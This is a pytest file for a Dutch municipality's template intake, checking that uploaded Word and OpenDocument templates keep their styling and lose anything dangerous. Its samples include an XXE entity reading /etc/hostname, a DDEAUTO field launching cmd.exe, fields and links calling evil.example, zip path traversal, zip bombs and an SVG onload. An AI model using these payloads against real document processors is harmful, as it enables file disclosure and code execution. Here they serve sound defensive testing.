"""The organisation's own template: its looks stay, our text comes in, and nothing that could do harm is kept."""

import io
import re
import zipfile

import pytest
from docx import Document
from docx.oxml import parse_xml
from odfdo import Document as ReadOpen

from dijkwacht.documents.college.proposal import proposal
from dijkwacht.documents.templates import package, word_clean, word_fields, word_template
from dijkwacht.documents.templates.intake import accepted, filled
from dijkwacht.documents.templates.kinds import MAX_BYTES, TemplateForm
from dijkwacht.kit.errors import InvalidInput
from tests.documents.college.making import marked, matter, parts, words
from tests.documents.templates import making as given
from tests.documents.templates.making import field_reason

ENTITY = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname"><!ENTITY a "aaaa">]>'
OTHER_TYPE = b"application/vnd.oasis.opendocument.spreadsheet"
PAPER = proposal(marked(matter()))


def put_in(data: bytes, file: str = "huisstijl.docx") -> bytes:
    return filled(accepted(data, file=file), PAPER)


def refused(data: bytes, file: str = "huisstijl.docx") -> str:
    with pytest.raises(InvalidInput) as caught:
        accepted(data, file=file)
    [fault] = caught.value.faults
    return fault.reason


def test_the_text_comes_at_the_marker_in_the_styles_of_the_template():
    document = Document(io.BytesIO(put_in(given.word())))
    texts = [one.text for one in document.paragraphs]
    assert texts.index("Aan het college") < texts.index("Beslispunten") < texts.index("Vriendelijke groet")
    assert "{{inhoud}}" not in " ".join(texts)
    heading = next(one for one in document.paragraphs if one.text == "Beslispunten")
    assert (heading.style.name, heading.style.font.size.pt, heading.style.font.color.rgb) == ("Heading 1", 21, given.GREEN)


def test_header_logo_and_footer_stay_and_the_marking_comes_below():
    document = Document(io.BytesIO(put_in(given.word())))
    section = document.sections[0]
    header = section.header
    assert header.paragraphs[0].runs[0].element.xpath(".//pic:pic")
    assert [one.text for one in header.paragraphs[1:]] == [
        PAPER.header,
        f"Niet openbaar in dit document: {'; '.join(PAPER.marks)}",
    ]
    assert section.footer.paragraphs[0].text == "Gemeente Duinrade, Raadhuisplein 1"


def test_without_a_marker_the_text_comes_at_the_end():
    texts = [one.text for one in Document(io.BytesIO(put_in(given.word(marker=False)))).paragraphs]
    assert texts.index("Vriendelijke groet") < texts.index("Beslispunten")


def test_a_template_without_heading_styles_still_gets_headings_that_can_be_found():
    document = Document(io.BytesIO(put_in(given.word(heading=False))))
    heading = next(one for one in document.paragraphs if one.text == "Beslispunten")
    assert heading.style.name == "Heading 1"
    assert any(one.text.startswith("1. Het weerbaarheidsbeeld") for one in document.paragraphs)


def test_a_dutch_style_is_found_by_its_name():
    data = given.replaced(given.word(), "word/styles.xml", 'w:styleId="Heading1"', 'w:styleId="Kop1"')
    assert '<w:pStyle w:val="Kop1"/>' in parts(put_in(data))["word/document.xml"]


def test_a_first_page_with_a_header_of_its_own_bears_the_marking_too():
    document = Document(io.BytesIO(given.word()))
    document.sections[0].different_first_page_header_footer = True
    document.sections[0].first_page_header.paragraphs[0].text = "Briefhoofd"
    section = Document(io.BytesIO(put_in(given.saved(document)))).sections[0]
    for header in (section.first_page_header, section.header):
        assert PAPER.header in [one.text for one in header.paragraphs]


def test_an_open_template_keeps_its_styles_and_its_header():
    data = put_in(given.open_text(), "huisstijl.odt")
    found = parts(data)
    assert '<text:h text:style-name="Kop1" text:outline-level="1">Beslispunten' in found["content.xml"]
    assert "#006633" in found["styles.xml"]
    assert "Gemeente Duinrade" in found["styles.xml"]
    assert PAPER.header in found["styles.xml"]
    assert "{{inhoud}}" not in found["content.xml"]
    assert (
        found["content.xml"].index("Aan het college")
        < found["content.xml"].index("Beslispunten")
        < found["content.xml"].index("Groet")
    )
    assert ReadOpen(io.BytesIO(data)).meta.title == PAPER.title


def test_every_style_that_is_used_in_an_open_template_is_there():
    found = parts(put_in(given.open_text(marker=False), "huisstijl.odt"))
    used = set(re.findall(r'text:style-name="([^"]+)"', found["content.xml"]))
    there = set(re.findall(r'style:name="([^"]+)"', found["content.xml"] + found["styles.xml"]))
    assert used <= there


@pytest.mark.parametrize(
    ("data", "file", "reason"),
    [
        (b"", "a.docx", package.EMPTY),
        (b"%PDF-1.7", "a.docx", package.NO_DOCUMENT),
        (b"\xd0\xcf\x11\xe0" + b"x" * 600, "a.doc", package.LOCKED),
        (b"PK\x03\x04" + bytes(MAX_BYTES), "a.docx", package.TOO_LARGE.format("is 2,1 MB; hoogstens 2 MB mag")),
        (b"PK\x03\x04" + b"x" * 90, "a.docx", package.DAMAGED),
        (given.word(), "a.docm", package.MACROS),
        (given.word(), "a.odt", package.WRONG_NAME),
        (given.open_text(), "a.docx", package.WRONG_NAME),
        (given.with_parts(given.word(), {"word/vbaProject.bin": b"x"}), "a.docx", package.MACROS),
        (given.with_parts(given.word(), {"word/document.xml": b"<w:document"}), "a.docx", package.DAMAGED),
        (given.with_parts(given.word(), {"_rels/.rels": None}), "a.docx", package.NO_DOCUMENT),
        (given.with_parts(given.word(), {"../../etc/cron.d/x": b"x"}), "a.docx", package.DAMAGED),
        (given.with_parts(given.word(), {"WORD/DOCUMENT.XML": b"<x/>"}), "a.docx", package.DAMAGED),
        (given.with_parts(given.open_text(), {"Basic/Standard/a.xml": b"<x/>"}), "a.odt", package.MACROS),
        (given.with_parts(given.open_text(), {"META-INF/manifest.xml": b"<encryption-data/>"}), "a.odt", package.LOCKED),
        (given.with_parts(given.open_text(), {"mimetype": OTHER_TYPE}), "a.odt", package.NO_DOCUMENT),
        (given.with_parts(given.open_text(), {"styles.xml": None}), "a.odt", package.NO_DOCUMENT),
    ],
)  # fmt: skip
def test_what_is_no_plain_document_is_refused(data: bytes, file: str, reason: str):
    assert refused(data, file) == reason


def test_a_macro_document_under_another_name_is_refused():
    data = given.replaced(given.word(), "[Content_Types].xml", "wordprocessingml.document.main", "x.document.macroEnabled.main")
    assert refused(data) == package.MACROS


@pytest.mark.parametrize("name", ["word/media/x.png", "word/styles.xml", "docProps/app.xml"])
def test_a_bomb_is_not_unpacked(name: str):
    why = refused(given.with_parts(given.word(), {name: b"0" * 21_000_000}))
    assert "wordt bij het uitpakken 21," in why
    assert "hoogstens 20 MB mag" in why
    why = refused(given.with_parts(given.word(), {"word/document.xml": bytes(4_000_001)}))
    assert "heeft een onderdeel (word/document.xml) dat bij het uitpakken 4,1 MB wordt; hoogstens 4 MB mag." in why


def test_many_parts_are_refused():
    why = refused(given.with_parts(given.word(), {f"word/media/{one}.png": b"" for one in range(400)}))
    assert re.match(r"Dit bestand bestaat uit 4\d\d onderdelen; hoogstens 300 mag\.", why)


@pytest.mark.parametrize("name", ["word/document.xml", "word/styles.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"])
def test_entities_in_word_are_refused(name: str):
    content = given.part(given.word(), name)
    start = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
    assert (
        refused(given.with_parts(given.word(), {name: content[:start] + ENTITY.encode() + content[start:]}))
        == package.FOREIGN_XML
    )


@pytest.mark.parametrize("name", ["content.xml", "styles.xml"])
def test_entities_in_an_open_document_are_refused(name: str):
    content = given.part(given.open_text(), name)
    assert refused(given.with_parts(given.open_text(), {name: ENTITY.encode() + content}), "a.odt") == package.FOREIGN_XML


def test_elements_without_end_are_refused():
    deep = b"<x>" * (package.MAX_DEPTH + 2)
    assert refused(given.with_parts(given.word(), {"word/document.xml": deep})) == package.DEEP.format(package.MAX_DEPTH)


@pytest.mark.parametrize(
    ("kind", "reason"),
    [
        ("image", word_template.OUTSIDE),
        ("oleObject", word_clean.EMBEDDED),
        ("aFChunk", word_clean.EMBEDDED),
        ("subDocument", word_clean.EMBEDDED),
        ("frame", word_template.OUTSIDE),
        ("vbaProject", package.MACROS),
        ("comments", word_template.OUTSIDE),
        ("whatever", word_template.OUTSIDE),
    ],
)
def test_what_lies_outside_the_document_is_refused(kind: str, reason: str):
    assert refused(given.related(kind, "https://evil.example/x")) == reason


@pytest.mark.parametrize("target", ["\\\\evil.example\\share\\x.png", "file:///etc/passwd", "//evil.example/x.png"])
def test_an_outside_place_is_known_without_its_mode_too(target: str):
    assert refused(given.related("image", target, outside=False)) == word_template.OUTSIDE


def test_the_template_behind_the_template_is_forgotten():
    data = given.related("attachedTemplate", "https://evil.example/x.dotm")
    assert "evil" not in words(accepted(data, file="a.docx").content)
    assert all("evil" not in xml for xml in parts(accepted(data, file="a.docx").content).values())


def test_a_link_becomes_its_words():
    data = given.related("hyperlink", "https://evil.example")
    document = Document(io.BytesIO(data))
    link = f'<w:p {given.W}><w:hyperlink r:id="rId999"><w:r><w:t>onze site</w:t></w:r></w:hyperlink></w:p>'
    document.element.body.sectPr.addprevious(parse_xml(link))
    kept = parts(accepted(given.saved(document), file="a.docx").content)
    assert "onze site" in kept["word/document.xml"]
    assert all("evil" not in xml for xml in kept.values())


@pytest.mark.parametrize(
    "instruction",
    [
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        'INCLUDEPICTURE "https://evil.example/x.png"',
        'INCLUDETEXT "\\\\\\\\evil.example\\\\x"',
        "LINK Excel.Sheet",
        "QUOTE 68 68 69",
        "MACROBUTTON x y",
        "",
    ],
)
def test_a_field_that_reaches_out_or_runs_is_refused(instruction: str):
    word = instruction.split(" ", maxsplit=1)[0]
    why = {"": word_fields.UNKNOWN.format(""), "QUOTE": word_fields.CODES}
    assert refused(given.with_field(instruction)) == why.get(word, field_reason(word))


def test_a_field_of_the_page_stays_and_a_link_field_becomes_words():
    assert parts(put_in(given.with_field("PAGE")))["word/document.xml"].count("<w:instrText") == 2
    kept = parts(put_in(given.with_field('HYPERLINK "https://evil.example"')))["word/document.xml"]
    assert "duinrade.example" in kept
    assert "evil" not in kept


@pytest.mark.parametrize("xml", ["<w:ins w:author='J'><w:r/></w:ins>", "<w:r><w:object/></w:r>", "<w:altChunk r:id='rId1'/>"])
def test_embedded_files_and_tracked_changes_are_refused(xml: str):
    document = Document(io.BytesIO(given.word()))
    document.element.body.sectPr.addprevious(parse_xml(f"<w:p {given.W}>{xml}</w:p>"))
    assert refused(given.saved(document)) in {word_clean.EMBEDDED, word_clean.REMARKS}


def test_other_pictures_are_refused_by_what_is_in_them():
    [name] = [name for name in zipfile.ZipFile(io.BytesIO(given.word())).namelist() if name.startswith("word/media/")]
    assert refused(given.with_parts(given.word(), {name: b"<svg onload='x'/>"})) == package.OTHER_PICTURE


@pytest.mark.parametrize(
    "xml",
    [
        '<draw:frame><draw:image xlink:href="https://evil.example/x.png"/></draw:frame>',
        '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>',
        '<text:section text:name="x"><text:section-source xlink:href="file:///etc/passwd"/></text:section>',
        '<draw:frame><draw:floating-frame xlink:href="https://evil.example"/></draw:frame>',
        "<draw:frame><draw:image><office:binary-data>AAAA</office:binary-data></draw:image></draw:frame>",
    ],
)
def test_open_documents_that_reach_out_are_refused(xml: str):
    data = given.replaced(given.open_text(), "content.xml", "<text:p>Groet</text:p>", f"<text:p>{xml}</text:p>")
    assert refused(data, "a.odt") in {word_template.OUTSIDE, word_clean.EMBEDDED}


def test_a_link_in_an_open_document_becomes_its_words():
    link = '<text:p>Zie <text:a xlink:href="https://evil.example">onze site</text:a>.</text:p>'
    data = given.replaced(given.open_text(), "content.xml", "<text:p>Groet</text:p>", link)
    kept = parts(accepted(data, file="a.odt").content)["content.xml"]
    assert "Zie onze site." in kept


def test_who_made_the_template_is_forgotten():
    document = Document(io.BytesIO(given.word()))
    document.core_properties.author = "Jan de Vries"
    kept = accepted(given.saved(document), file="a.docx")
    assert "Jan de Vries" not in words(kept.content)
    assert Document(io.BytesIO(filled(kept, PAPER))).core_properties.author == "Duinrade"


def test_a_word_template_of_the_kind_dotx_becomes_a_document():
    data = given.replaced(given.word(), "[Content_Types].xml", "document.main+xml", "template.main+xml")
    kept = accepted(data, file="huisstijl.dotx")
    assert kept.form is TemplateForm.DOCX
    assert word_template.MAIN_TYPE in parts(kept.content)["[Content_Types].xml"]


def test_taking_in_twice_changes_nothing_more():
    once = accepted(given.word(), file="a.docx").content
    assert accepted(once, file="a.docx").content == once
